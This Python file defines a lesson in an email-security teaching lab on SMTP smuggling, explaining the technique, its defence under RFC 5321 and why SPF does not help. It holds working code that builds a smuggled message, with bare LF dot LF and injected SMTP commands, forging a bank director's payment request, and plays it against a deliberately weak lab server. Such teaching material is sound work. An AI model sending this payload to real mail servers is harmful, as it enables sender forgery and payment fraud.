"""Lesson: SMTP smuggling, a second message inside the first."""

from __future__ import annotations

from typing import Final

from emailsys.lab.attackers.clients import pour
from emailsys.lab.base.lesson import Lesson, prose
from emailsys.lab.base.stage import BOB, Stage, letter
from emailsys.lab.base.values import Result, Step
from emailsys.lab.hosts.weak import WeakEndOfData

_SENDER: Final = "customer@big-provider.test"
_FORGED: Final = "director@bank.test"
_SUBJECT: Final = "Please pay today"


def smuggled() -> bytes:
    """Returns a message with a second one in it, behind a dot between bare line feeds."""
    inner = letter(_FORGED, BOB, _SUBJECT, "To account 4711.").rstrip(b"\r\n")
    outer = letter(_SENDER, BOB, "Hello", "Nothing to see here.").rstrip(b"\r\n")
    commands = f"MAIL FROM:<{_FORGED}>\r\nRCPT TO:<{BOB}>\r\nDATA\r\n".encode()
    return outer + b"\n.\n" + commands + inner


def _play(stage: Stage, is_protected: bool) -> Result:
    if is_protected:
        system = stage.system()
        before = len(stage.maildrop(system, BOB))
        poured = pour(system.ports["smtp"], _SENDER, BOB, smuggled(), "out.big-provider.test")
        envelopes = [_return_path(one) for one in stage.maildrop(system, BOB)[before:]]
    else:
        weak = stage.open(WeakEndOfData())
        poured = pour(weak.port, _SENDER, BOB, smuggled(), "out.big-provider.test")
        envelopes = [one.sender for one in weak.stored]
    harmed = _FORGED in envelopes
    if harmed:
        text = prose("""The server takes the dot between two bare LF for the end of the message, and the rest for
            commands. It stores a second message whose sender the provider never allowed. SPF and the reputation of the
            provider speak for it, because it came over the provider's connection.""")
        evidence = f"one DATA gave {len(envelopes)} messages, the second from {envelopes[-1]}"
    else:
        text = prose("""For the daemon, only CR LF . CR LF ends a message. It refuses a message with bare LF as a
            whole, so that no host behind it can be confused either.""")
        evidence = f"bob got {envelopes.count(_FORGED)} messages from {_FORGED}; the daemon said {poured.final!r}"
    step = Step("What the attacker sends", text, [poured.view.conversation()])
    return Result([step], harmed, evidence)


def _return_path(message: bytes) -> str:
    line = message.split(b"\r\n", 1)[0].decode("latin-1")
    return line.partition("<")[2].partition(">")[0]


LESSONS: Final = [
    Lesson(
        name="smuggling",
        title="SMTP smuggling: a second message inside the first",
        order=50,
        minutes=20,
        question="Did a message with a forged sender arrive?",
        without="a deliberately weak server of the lab, for which bare LF . LF ends a message",
        protection="the daemon, for which only CR LF . CR LF does",
        happens=prose("""A customer of a large provider writes a message with a dot between two bare line feeds. The
            provider passes it on as text. If the receiver takes it for the end of the message, what follows are
            commands of the customer, on the connection of the provider."""),
        why=prose("""Two programs read the same octets differently. The sender checks one message and the receiver gets
            two. In 2023 this worked between several of the largest mail systems."""),
        protects=prose("""RFC 5321 allows exactly one end of data. The receiver must accept no other, and better
            refuses bare LF as a whole. The sender must not pass on bare LF."""),
        real=prose("""The smuggler's octets and the daemon are real. The daemon has no switch for this fault, so a
            small server of the lab has it. The smuggler stands in the place of the provider's host, and skips the
            provider."""),
        rfcs=("RFC 5321 §2.3.8", "RFC 5321 §4.1.1.4"),
        ask=(
            "Which of the two hosts is at fault?",
            "Why do SPF and the reputation of the provider not help?",
            "Where else do two readers of the same octets disagree? (HTTP request smuggling)",
        ),
        play=_play,
    )
]
